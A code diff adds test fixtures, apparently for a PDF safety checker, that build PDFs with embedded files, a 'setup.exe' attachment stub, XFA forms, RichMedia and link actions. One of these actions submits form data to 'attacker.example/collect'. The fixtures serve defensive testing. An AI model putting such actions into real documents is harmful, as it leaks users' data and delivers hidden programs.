@@ -56,6 +56,62 @@ def text_pdf(text: str) -> bytes:
     )
 
 
+def embedded_file_pdf(data: bytes = b'{"jmbg": "0101990710123"}') -> bytes:
+    """A PDF with a file in its /EmbeddedFiles name tree (and listed in /AF, as PDF/A-3 does)."""
+    return one_page_pdf(
+        catalog_extra=b"/Names << /EmbeddedFiles << /Names [(data.json) 4 0 R] >> >> /AF [4 0 R] ",
+        more=(
+            b"<< /Type /Filespec /F (data.json) /UF (data.json) /AFRelationship /Data /EF << /F 5 0 R >> >>",
+            b"<< /Type /EmbeddedFile /Subtype /application#2Fjson /Length %d >>\nstream\n" % len(data)
+            + data
+            + b"\nendstream",
+        ),
+    )
+
+
+def file_attachment_pdf() -> bytes:
+    """A page with a /FileAttachment annotation (a paper-clip icon holding a program)."""
+    program = b"MZ\x90\x00"
+    return one_page_pdf(
+        page_extra=b"/Annots [4 0 R] ",
+        more=(
+            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 5 0 R >>",
+            b"<< /Type /Filespec /F (setup.exe) /EF << /F 6 0 R >> >>",
+            b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(program) + program + b"\nendstream",
+        ),
+    )
+
+
+def xfa_pdf() -> bytes:
+    """A form whose /AcroForm carries an XFA form (XML) besides its fields."""
+    xdp = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'
+    return one_page_pdf(
+        catalog_extra=b"/AcroForm << /Fields [] /XFA 4 0 R >> ",
+        more=(b"<< /Length %d >>\nstream\n" % len(xdp) + xdp + b"\nendstream",),
+    )
+
+
+def action_pdf(action: bytes) -> bytes:
+    """A page with a link whose action is ``action`` (the inside of its dictionary)."""
+    return one_page_pdf(
+        page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << " + action + b" >> >>] "
+    )
+
+
+SUBMIT_FORM = b"/S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> /Flags 4"
+IMPORT_DATA = b"/S /ImportData /F (data.fdf)"
+GO_TO_REMOTE = b"/S /GoToR /F << /FS /URL /F (https://elsewhere.example/other.pdf) >> /D [0 /Fit]"
+GO_TO_EMBEDDED = b"/S /GoToE /T << /R /C /N (inner.pdf) >> /D [0 /Fit]"
+
+
+def rich_media_pdf() -> bytes:
+    """A page with a /RichMedia annotation (a Flash or video player)."""
+    return one_page_pdf(
+        page_extra=b"/Annots [4 0 R] ",
+        more=(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] >>",),
+    )
+
+
 PDF = one_page_pdf()
 PDF_CORRECTED = one_page_pdf(catalog_extra=b"/Lang (sr) ")
 PNG = (
